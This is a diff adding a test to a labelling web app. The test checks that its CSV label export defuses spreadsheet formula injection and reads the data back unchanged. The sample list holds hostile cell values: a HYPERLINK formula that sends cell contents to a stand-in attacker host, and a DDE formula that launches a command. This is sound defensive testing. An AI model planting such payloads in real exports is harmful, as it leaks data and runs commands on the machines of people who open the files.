@@ -3,6 +3,8 @@ plus roles, error statuses and concurrent claims over HTTP (SQLite and PostgreSQ
 
 from __future__ import annotations
 
+import csv
+import io
 import threading
 import time
 from pathlib import Path
@@ -175,6 +177,54 @@ def test_prediction_to_label_to_export(
         assert report.rows_read == 1
     header = client.get("/labels/export", headers=auth("reviewer")).text.splitlines()[0]
     assert header == "id,created_on,title,description,tag,reviewer,source,holdout"
+
+
+# Texts a spreadsheet runs as formulas when it opens a CSV: anyone with a client key can send
+# one as a title, and the label export used to write it as it came.
+FORMULAS = [
+    ('=HYPERLINK("http://evil.example/?d="&A1,"details")', "=cmd|' /C calc'!A0"),
+    ("+1+1 tricks", "@SUM(1+1)"),
+    ("-2+3 is not a tag", ""),
+    ("@here a title", "-\tbullet"),
+    ("'=already quoted", "''two"),
+]
+
+
+def test_the_csv_export_keeps_formulas_from_running_and_reads_back_as_it_was(
+    sqlite_client: TestClient, tags: TagSet, tmp_path: Path
+) -> None:
+    with Session(state_of(sqlite_client).engine, expire_on_commit=False) as session:
+        for title, description in FORMULAS:
+            review_intake.create_task(
+                session,
+                task=ReviewTask(
+                    text_hash=text_hash(title, description),
+                    title=title,
+                    description=description,
+                    reason=ReviewReason.LOW_CONFIDENCE,
+                    uncertainty=0.5,
+                    suggestion_tag="other",
+                    suggestion_scores={"other": 1.0},
+                ),
+            )
+    headers = auth("reviewer")
+    who = body("=1+1")  # a shared key's declared name is text from outside too
+    while (claimed := sqlite_client.post("/review/claim", json=who, headers=headers)).content:
+        label = body("=1+1", tag="other")
+        path = f"/review/{claimed.json()['task_id']}/label"
+        assert sqlite_client.post(path, json=label, headers=headers).status_code == 201
+    export = sqlite_client.get("/labels/export", headers=headers)
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for column in ("title", "description", "reviewer"):
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert {r["reviewer"] for r in rows} == {"'=1+1"}
+    path = tmp_path / "labels.csv"
+    path.write_bytes(export.content)
+    examples, _ = load_dataset(path, tags=tags)
+    assert sorted((e.title, e.description) for e in examples) == sorted(FORMULAS)
 
 
 def test_concurrent_claims_over_http(client: TestClient) -> None:
